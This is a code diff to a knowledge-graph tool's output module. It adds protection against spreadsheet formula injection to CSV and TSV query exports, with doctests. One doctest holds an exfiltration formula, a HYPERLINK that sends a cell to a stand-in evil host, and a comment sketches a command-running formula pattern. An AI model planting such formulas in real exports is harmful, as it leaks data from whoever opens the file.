@@ -1,13 +1,19 @@
 """Write query results in the formats every command shares.
 
-SELECT results: ``table`` (for people), ``csv`` and ``tsv`` (SPARQL 1.1 CSV/TSV), ``json`` and ``xml``
-(SPARQL 1.1 Query Results JSON and XML). Graph results: ``turtle``, ``ntriples``, ``jsonld``. ASK: ``true``/``false``.
+SELECT results: ``table`` (for people); ``csv`` and ``tsv``, SPARQL 1.1 CSV/TSV made safe to open in
+a spreadsheet (see :func:`spreadsheet_safe`); ``csv-raw`` and ``tsv-raw``, W3C-exact SPARQL 1.1
+CSV/TSV for programs; ``json`` and ``xml`` (SPARQL 1.1 Query Results JSON and XML). Graph results:
+``turtle``, ``ntriples``, ``jsonld``. ASK: ``true``/``false``.
 
 >>> from kg.query import QueryResult
 >>> import pyoxigraph as ox
->>> print(format_result(QueryResult("select", ["n"], [(ox.Literal("1"),)]), "csv"), end="")
-n
-1
+>>> result = QueryResult("select", ["title", "n"], [(ox.Literal("=1+2"), ox.Literal("-3"))])
+>>> print(format_result(result, "csv"), end="")
+title,n
+'=1+2,'-3
+>>> print(format_result(result, "csv-raw"), end="")
+title,n
+=1+2,-3
 """
 
 from __future__ import annotations
@@ -23,11 +29,15 @@ from kg.errors import InputError
 from kg.query import QueryResult
 from kg.vocab import PREFIXES
 
-SELECT_FORMATS = ("table", "csv", "tsv", "json", "xml")
+SELECT_FORMATS = ("table", "csv", "tsv", "csv-raw", "tsv-raw", "json", "xml")
 GRAPH_FORMATS = ("turtle", "ntriples", "jsonld")
 FORMATS = SELECT_FORMATS + GRAPH_FORMATS
 _RDF_FORMATS = {"turtle": ox.RdfFormat.TURTLE, "ntriples": ox.RdfFormat.N_TRIPLES, "jsonld": ox.RdfFormat.JSON_LD}
 _TABLE_CELL = 60  # characters; longer values (sentences) are cut in tables only
+#: How a cell a spreadsheet would read as a formula starts (OWASP, "CSV Injection"). A leading
+#: "-" counts even in a plain number: "-3" is harmless, but "-3+cmd|..." is not, and telling
+#: them apart is the kind of parsing that attackers win.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def shorten(iri: str) -> str:
@@ -37,6 +47,19 @@ def shorten(iri: str) -> str:
         if iri.startswith(namespace) and len(namespace) > len(PREFIXES.get(best, "")):
             best = prefix
     return f"{best}:{iri[len(PREFIXES[best]):]}" if best else iri
+
+
+def spreadsheet_safe(cell: str) -> str:
+    """``cell`` as a spreadsheet will show it as text, never run it: a cell that starts with
+    ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front (OWASP's
+    advice), negative numbers too. Quoting the cell as CSV requires is the CSV writer's job.
+
+    >>> print(spreadsheet_safe('=HYPERLINK("https://evil.example/?"&B2)'))
+    '=HYPERLINK("https://evil.example/?"&B2)
+    >>> spreadsheet_safe("-0.5"), spreadsheet_safe("Drammen")
+    ("'-0.5", 'Drammen')
+    """
+    return "'" + cell if cell.startswith(FORMULA_START) else cell
 
 
 def default_format(result: QueryResult, interactive: bool) -> str:
@@ -57,7 +80,7 @@ def format_result(result: QueryResult, fmt: str) -> str:
         return ox.serialize(result.triples, format=_RDF_FORMATS[fmt], prefixes=PREFIXES).decode("utf-8")
     if fmt not in SELECT_FORMATS:
         raise InputError(f"--format {fmt} does not fit a SELECT result; use one of {', '.join(SELECT_FORMATS)}")
-    return {"table": _table, "csv": _csv, "tsv": _tsv, "json": _json, "xml": _xml}[fmt](result)
+    return _SELECT_WRITERS[fmt](result)
 
 
 def _plain(term) -> str:
@@ -90,33 +113,51 @@ def _aligned(columns: list[str], rows: list[list[str]]) -> str:
     return "\n".join(lines) + "\n"
 
 
+ROW_FORMATS = ("table", "csv", "csv-raw", "json")
+
+
 def format_rows(rows: list[dict], fmt: str) -> str:
-    """Plain records (as :mod:`kg.analysis` returns them) as ``table``, ``csv`` or ``json``."""
+    """Plain records (as :mod:`kg.analysis` returns them) as ``table``, ``csv`` (spreadsheet-safe),
+    ``csv-raw`` or ``json``.
+
+    >>> print(format_rows([{"label": "@Drammen", "degree": 3}], "csv"), end="")
+    label,degree
+    '@Drammen,3
+    """
     columns = list(rows[0]) if rows else []
     if fmt == "json":
         return json.dumps(rows, ensure_ascii=False, indent=1) + "\n"
     text = [["" if row.get(c) is None else str(row[c]) for c in columns] for row in rows]
-    if fmt == "csv":
-        out = io.StringIO()
-        writer = csv.writer(out, lineterminator="\r\n")
-        writer.writerow(columns)
-        writer.writerows(text)
-        return out.getvalue()
+    if fmt in ("csv", "csv-raw"):
+        return _csv_text(columns, text, safe=fmt == "csv")
     return _aligned(columns, text)
 
 
-def _csv(result: QueryResult) -> str:
+def _csv_text(header: list[str], rows: list[list[str]], safe: bool) -> str:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")  # SPARQL 1.1 CSV uses CRLF
-    writer.writerow(result.variables)
-    writer.writerows([_plain(term) for term in row] for row in result.rows)
+    writer.writerow(header)
+    writer.writerows([spreadsheet_safe(cell) for cell in row] if safe else row for row in rows)
     return out.getvalue()
 
 
-def _tsv(result: QueryResult) -> str:
-    # SPARQL 1.1 TSV: terms in Turtle/N-Triples syntax, which pyoxigraph's str() gives.
+def _csv(result: QueryResult, safe: bool = True) -> str:
+    return _csv_text(result.variables, [[_plain(term) for term in row] for row in result.rows], safe)
+
+
+def _tsv(result: QueryResult, safe: bool = True) -> str:
+    # SPARQL 1.1 TSV: terms in Turtle/N-Triples syntax, which pyoxigraph's str() gives. A
+    # spreadsheet takes the quotes off a literal, so the safe form neutralises the literal's text.
+    def cell(term) -> str:
+        if term is None:
+            return ""
+        if safe and isinstance(term, ox.Literal) and term.value.startswith(FORMULA_START):
+            term = ox.Literal(spreadsheet_safe(term.value), language=term.language,
+                              datatype=None if term.language else term.datatype)
+        return str(term)
+
     lines = ["\t".join(f"?{v}" for v in result.variables)]
-    lines += ["\t".join("" if term is None else str(term) for term in row) for row in result.rows]
+    lines += ["\t".join(cell(term) for term in row) for row in result.rows]
     return "\n".join(lines) + "\n"
 
 
@@ -159,3 +200,8 @@ def _xml(result: QueryResult) -> str:
         for row in result.rows)
     return (f'<?xml version="1.0"?>\n<sparql xmlns="http://www.w3.org/2005/sparql-results#">'
             f"<head>{head}</head><results>{rows}</results></sparql>\n")
+
+
+_SELECT_WRITERS = {"table": _table, "csv": _csv, "tsv": _tsv, "json": _json, "xml": _xml,
+                   "csv-raw": lambda result: _csv(result, safe=False),
+                   "tsv-raw": lambda result: _tsv(result, safe=False)}
